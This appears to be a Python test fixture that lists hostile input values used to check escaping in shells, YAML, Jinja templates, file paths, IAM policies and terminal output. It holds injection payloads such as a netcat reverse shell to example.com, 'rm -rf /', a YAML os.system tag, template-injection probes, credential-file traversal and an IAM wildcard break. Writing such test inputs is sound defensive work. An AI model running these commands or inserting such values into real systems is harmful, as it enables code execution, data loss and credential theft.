"""Values that would do harm in a shell, YAML, a template, a path, an IAM policy, a message, or a reader's eye."""

HOSTILE: dict[str, str] = {
    "shell substitution": "$(id)",
    "shell backticks": "`id`",
    "shell command": "a; rm -rf /",
    "shell pipe": "a | nc -e /bin/sh example.com 1",
    "shell quote": "a' ; id ; '",
    "shell new line": "a\nid\n",
    "an option": "--kubeconfig=/etc/passwd",
    "environment": "${HOME}",
    "YAML tag": "!!python/object/apply:os.system [id]",
    "YAML map": "a: b",
    "YAML list": "- a",
    "YAML anchor": "&a [*a, *a]",
    "YAML document": "a\n---\nkind: Pod\n...",
    "YAML comment": "a # b",
    "YAML flow": "}, {a: [",
    "JSON break": '"}, {"Effect": "Allow", "Action": "*", "Resource": "*"',
    "Jinja expression": "{{ 7*7 }}",
    "Jinja self": "{{ self.__init__.__globals__ }}",
    "Jinja statement": "{% for a in (1, 2) %}a{% endfor %}",
    "Jinja comment": "{# a #}",
    "our own mark": "«output:0»",
    "path upwards": "../../etc/passwd",
    "path absolute": "/etc/passwd",
    "path NUL": "a\0b",
    "path home": "~/.aws/credentials",
    "IAM everything": "*",
    "IAM one character": "a?b",
    "IAM variable": "${aws:username}",
    "IAM everyone": "arn:aws:iam::*:root",
    "IAM other bucket": "arn:aws:s3:::other/*",
    "terminal escape": "\x1b[2J\x1b]0;owned\x07",
    "carriage return": "safe\rowned",
    "right to left": "a\u202egnp.exe",
    "homoglyph": "llаma",  # the second a is Cyrillic
    "zero width": "lla\u200bma",
    "next line": "a\x85b",
    "line separator": "a\u2028b",
    "no character": "a\ufffe",
    "half of a pair": "a\ud83d",
    "beyond 16 bits": "\U0001f999",
    "64 KiB": "a" * 2**16,
    "all at once": "'$(id)`id` ;|{{ 7*7 }}{% a %} !!python/object: [&a] - # *?${aws:username} ../../a \"",
    "empty": "",
    "blank": " ",
}

SHARPEST = [
    HOSTILE[name]
    for name in (
        *(
            "all at once",
            "our own mark",
            "YAML tag",
            "YAML document",
            "JSON break",
            "Jinja statement",
            "IAM everything",
        ),
        *("IAM variable", "path upwards", "path NUL", "terminal escape", "next line", "line separator", "no character"),
        *("half of a pair", "beyond 16 bits", "homoglyph", "64 KiB", "empty"),
    )
]
"""Values for what takes long to build: at least one for each kind of reader."""
